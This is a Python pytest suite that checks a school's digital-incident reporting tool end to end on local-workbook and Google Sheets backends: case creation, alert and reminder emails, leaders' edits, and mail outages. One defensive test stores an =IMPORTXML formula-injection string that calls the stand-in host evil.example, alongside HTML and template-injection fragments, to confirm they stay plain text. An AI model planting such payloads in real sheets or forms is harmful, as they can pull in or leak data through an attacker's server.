"""The contract suite: the same end-to-end behaviour through cli.py on both backends.

``site`` is a configured school on the local workbook or on a Google Sheet served by the
emulator (the real gspread client over loopback), with email going to a real SMTP server.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import CliRunner, Result
from conftest import SmtpServer, config_text, free_port
from sheets_emulator import SheetsEmulator

from cli import cli
from workflow.config import Config, load_config
from workflow.demo import RESPONSE_HEADERS
from workflow.storage import open_storage
from workflow.storage.local import LocalWorkbookStorage

NZ = ZoneInfo("Pacific/Auckland")
NOW = "2026-11-25T10:00"       # a Wednesday in term
TWO_DAYS_ON = "2026-11-27T11:00"
BACKENDS = ["local", "google"]


@pytest.fixture(scope="module")
def emulator() -> Iterator[SheetsEmulator]:
    with SheetsEmulator() as emu:
        yield emu


class Site:
    """One school's worker: its config, its sheet, and hands to act as Forms and as leaders."""

    def __init__(self, backend: str, folder: Path, smtp_port: int, emulator: SheetsEmulator,
                 monkeypatch: pytest.MonkeyPatch) -> None:
        self.backend, self.emulator = backend, emulator
        self.spreadsheet_id = f"contract-{folder.name}"
        if backend == "google":
            monkeypatch.setenv("SHEETS_EMULATOR_HOST", emulator.host)
            emulator.create_spreadsheet(self.spreadsheet_id, tabs={"Form Responses 1": [RESPONSE_HEADERS]})
        self.path = folder / "config.toml"
        self.write_config(smtp_port)
        setup = self.cli("setup")
        assert setup.exit_code == 0, setup.output

    def write_config(self, smtp_port: int, extra: dict[str, str] | None = None) -> None:
        replace = {"retry_seconds": "1", **(extra or {})}
        self.path.write_text(config_text(self.path.parent, backend=self.backend, transport="smtp",
                                         smtp_port=smtp_port, spreadsheet_id=self.spreadsheet_id,
                                         replace=replace), encoding="utf-8")

    @property
    def config(self) -> Config:
        return load_config(self.path)

    def cli(self, *args: str) -> Result:
        return CliRunner().invoke(cli, ["-c", str(self.path), *args], catch_exceptions=False)

    # -- Google Forms -------------------------------------------------------------------
    def add(self, *records: dict[str, Any]) -> None:
        if self.backend == "local":
            LocalWorkbookStorage(self.config).add_responses(list(records))
        else:
            for record in records:
                self.emulator.append_row(self.spreadsheet_id, "Form Responses 1",
                                         [record.get(h) for h in RESPONSE_HEADERS])

    def edit_response(self, row: int, record: dict[str, Any]) -> None:
        """Forms rewriting response ``row`` (0-based) in place, as when a reporter edits it."""
        values = [record.get(h) for h in RESPONSE_HEADERS]
        if self.backend == "local":
            values = [v.replace(tzinfo=None) if isinstance(v, datetime) else v for v in values]
            self.edit_local("Form Responses 1", lambda sheet: [
                sheet.cell(row + 2, c + 1, v) for c, v in enumerate(values)])
        else:
            self.emulator.set_values(self.spreadsheet_id, "Form Responses 1", f"A{row + 2}", [values])

    # -- a leader -----------------------------------------------------------------------
    def rows(self, tab: str) -> list[dict[str, Any]]:
        if tab == "log":  # a sync reads only the Log's header, so read it as a leader would
            return self.log()
        snapshot = open_storage(self.config).load()
        table = snapshot.responses if tab == "responses" else snapshot.tab(tab)
        return [dict(zip(table.header, r + [None] * (len(table.header) - len(r)), strict=True))
                for r in table.rows if any(v not in (None, "") for v in r)]

    def log(self) -> list[dict[str, Any]]:
        if self.backend == "google":
            header, *rows = self.emulator.values(self.spreadsheet_id, "Log")
        else:
            sheet = openpyxl.load_workbook(self.config.sheet.path)["Log"]
            header, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        return [dict(zip(header, row + [None] * (len(header) - len(row)), strict=True)) for row in rows]

    def set_cell(self, tab_title: str, key: Callable[[dict[str, Any]], bool], column: str, value: Any) -> None:
        logical = tab_title.lower()
        rows = self.rows(logical)
        header = list(rows[0]) if rows else []
        index = next(i for i, r in enumerate(rows) if key(r))
        position = header.index(column)
        if self.backend == "local":
            self.edit_local(tab_title, lambda sheet: sheet.cell(index + 2, position + 1, value))
        else:
            letter = chr(ord("A") + position)
            self.emulator.set_values(self.spreadsheet_id, tab_title, f"{letter}{index + 2}", [[value]])

    def add_column(self, tab_title: str, title: str) -> None:
        width = len(self.rows(tab_title.lower())[0])
        if self.backend == "local":
            self.edit_local(tab_title, lambda sheet: sheet.cell(1, width + 1, title))
        else:
            letter = chr(ord("A") + width)
            self.emulator.set_values(self.spreadsheet_id, tab_title, f"{letter}1", [[title]])

    def sort_reversed(self, tab_title: str) -> None:
        """A leader sorting the tab by its first column, Z→A."""
        if self.backend == "google":
            self.emulator.sort_tab(self.spreadsheet_id, tab_title, 1, reverse=True)
            return

        def sort(sheet: Any) -> None:
            data = [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
            data.sort(key=lambda r: str(r[0] or ""), reverse=True)
            for i, values in enumerate(data, start=2):
                for j, value in enumerate(values, start=1):
                    sheet.cell(i, j, value)
        self.edit_local(tab_title, sort)

    def edit_local(self, tab_title: str, change: Callable[[Any], Any]) -> None:
        path = self.config.sheet.path
        workbook = openpyxl.load_workbook(path)
        change(workbook[tab_title])
        workbook.save(path)


@pytest.fixture(params=BACKENDS)
def site(request: pytest.FixtureRequest, tmp_path: Path, smtp_server: SmtpServer, emulator: SheetsEmulator,
         monkeypatch: pytest.MonkeyPatch) -> Site:
    return Site(request.param, tmp_path, smtp_server.port, emulator, monkeypatch)


def response(stamp: str, kind: str = "Cyberbullying or harassment", *, risk: str = "No", u18: str = "No",
             reporter: str = "t.teacher@school.example", what: str = "Names in a group chat",
             involved: str = "A.B. (Y9)") -> dict[str, Any]:
    values = [datetime.fromisoformat(stamp).replace(tzinfo=NZ), reporter, kind, risk, u18, "Students",
              "Outside school", "Instagram", what, involved, "Spoke with them"]
    return dict(zip(RESPONSE_HEADERS, values, strict=True))


def sent(server: SmtpServer) -> list[tuple[str, str]]:
    return [(m["To"], m["Subject"]) for m in server.handler.messages()]


def test_alerts_once_then_reminders_once_two_school_days_later(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"),
             response("2026-11-25T09:05", "Nude or intimate images shared", u18="Yes", reporter="m.lee@school.example"))
    first = site.cli("sync", "--now", NOW)
    assert first.exit_code == 0, first.output
    urgent = sorted(to for to, subject in sent(smtp_server) if subject.startswith("[URGENT]"))
    assert urgent == ["counsellor@school.example", "dean@school.example", "principal@school.example"]
    assert {to for to, s in sent(smtp_server) if s.startswith("Thank you")} == {
        "t.teacher@school.example", "m.lee@school.example"}
    cases = site.rows("cases")
    assert [c["Case ID"] for c in cases] == ["DI-2026-0001", "DI-2026-0002"]
    assert len(site.rows("checklist")) == 2 * len(site.config.checklist)
    count = len(smtp_server.handler.envelopes)

    assert site.cli("sync", "--now", NOW).exit_code == 0
    assert len(smtp_server.handler.envelopes) == count

    later = site.cli("sync", "--now", TWO_DAYS_ON, "--json")
    summary = json.loads(later.output)
    assert summary["cases_opened"] == 0 and summary["emails_sent"] > 0
    overdue = [r for r in site.rows("checklist") if r["Status"] == "Overdue"]
    assert overdue
    reminders = [s for _, s in sent(smtp_server)[count:] if "overdue" in s.lower()]
    assert reminders
    count = len(smtp_server.handler.envelopes)
    assert site.cli("sync", "--now", TWO_DAYS_ON).exit_code == 0
    assert len(smtp_server.handler.envelopes) == count
    assert {r["Status"] for r in site.rows("notifications")} <= {"sent", "cancelled"}
    received = {c["Case ID"]: c["Received"] for c in site.rows("cases")}
    assert received["DI-2026-0001"] == datetime(2026, 11, 25, 9, 0, tzinfo=NZ)


def test_leaders_edits_survive_sorting_and_syncs(site: Site, smtp_server: SmtpServer) -> None:
    site.add(*(response(f"2026-11-25T09:0{i}", reporter=f"r{i}@school.example") for i in range(4)))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    site.sort_reversed("Cases")
    site.add_column("Cases", "Our notes")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0002", "Owner", "Ms Dean")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0002", "Our notes", "call whānau Friday")
    site.set_cell("Cases", lambda r: r["Case ID"] == "DI-2026-0003", "Status", "Closed")
    first_step = site.rows("checklist")[0]
    step_key = (first_step["Case ID"], first_step["Step"])
    site.set_cell("Checklist", lambda r: (r["Case ID"], r["Step"]) == step_key, "Done", True)
    site.set_cell("Checklist", lambda r: (r["Case ID"], r["Step"]) == step_key, "Notes", "done at 9:30")
    site.sort_reversed("Checklist")

    result = site.cli("sync", "--now", TWO_DAYS_ON)
    assert result.exit_code == 0, result.output
    cases = {c["Case ID"]: c for c in site.rows("cases")}
    assert cases["DI-2026-0002"]["Owner"] == "Ms Dean"
    assert cases["DI-2026-0002"]["Our notes"] == "call whānau Friday"
    assert cases["DI-2026-0003"]["Status"] == "Closed"
    for case in cases.values():  # no write landed in another case's row
        number = int(case["Case ID"][-4:]) - 1
        assert case["Reported by"] == f"r{number}@school.example"
    steps = {(s["Case ID"], s["Step"]): s for s in site.rows("checklist")}
    step = steps[step_key]
    assert step["Done"] is True and step["Notes"] == "done at 9:30" and step["Status"] == "Done"
    assert isinstance(step["Done at"], datetime)
    for (case_id, _), row in steps.items():
        assert row["Case ID"] == case_id
    log = {(r["Case ID"], r["Event"]) for r in site.rows("log")}
    assert ("DI-2026-0002", "owner set") in log and ("DI-2026-0003", "status changed") in log
    assert ("DI-2026-0003", "overdue") not in {(r["Case ID"], r["Event"]) for r in site.rows("notifications")}


def test_hostile_text_stays_plain_text(site: Site, smtp_server: SmtpServer) -> None:
    hostile = '=IMPORTXML("http://evil.example","//a") <b>x</b> {{ 7*7 }}'
    site.add(response("2026-11-25T09:00", what=hostile, involved="+64 21 555 0000"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    assert site.rows("cases")[0]["Summary"] == hostile
    if site.backend == "google":
        cell = site.emulator.cell(site.spreadsheet_id, "Cases", "K2")
        assert "formulaValue" not in cell["userEnteredValue"]
    for message in smtp_server.handler.messages():
        assert "IMPORTXML" not in message.get_body(("plain",)).get_content()


def test_edited_response_updates_its_case(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    assert site.cli("sync", "--now", NOW).exit_code == 0
    site.edit_response(0, response("2026-11-25T09:40", "Threats of violence", what="Now threatening him"))
    assert site.cli("sync", "--now", "2026-11-25T09:45").exit_code == 0
    cases = site.rows("cases")
    assert len(cases) == 1 and cases[0]["Priority"] == "Urgent" and cases[0]["Summary"] == "Now threatening him"
    assert ("principal@school.example", "[URGENT] New digital incident DI-2026-0001 (Threats of violence)") in sent(
        smtp_server)


def test_mail_server_down_keeps_emails_queued_then_sends_them(site: Site, smtp_server: SmtpServer) -> None:
    site.write_config(free_port())
    site.add(response("2026-11-25T09:00"))
    down = site.cli("sync", "--now", NOW)
    assert down.exit_code == 75, down.output
    queued = site.rows("notifications")
    assert queued and {n["Status"] for n in queued} == {"queued"} and all(n["Error"] for n in queued)
    assert "not sent" in {r["Setting"]: r["Value"] for r in site.rows("worker")}["Last error"]
    site.write_config(smtp_server.port)
    up = site.cli("sync", "--now", NOW)
    assert up.exit_code == 0, up.output
    assert len(smtp_server.handler.envelopes) == len(queued)
    # the outage spent no attempt: the one that went is the only one counted
    assert {(n["Status"], n["Attempts"]) for n in site.rows("notifications")} == {("sent", 1)}


def test_dry_run_writes_and_sends_nothing(site: Site, smtp_server: SmtpServer) -> None:
    site.add(response("2026-11-25T09:00"))
    before = site.rows("cases")
    result = site.cli("sync", "--dry-run", "--now", NOW)
    assert result.exit_code == 0 and "1 new case" in result.output
    assert site.rows("cases") == before == [] and smtp_server.handler.envelopes == []
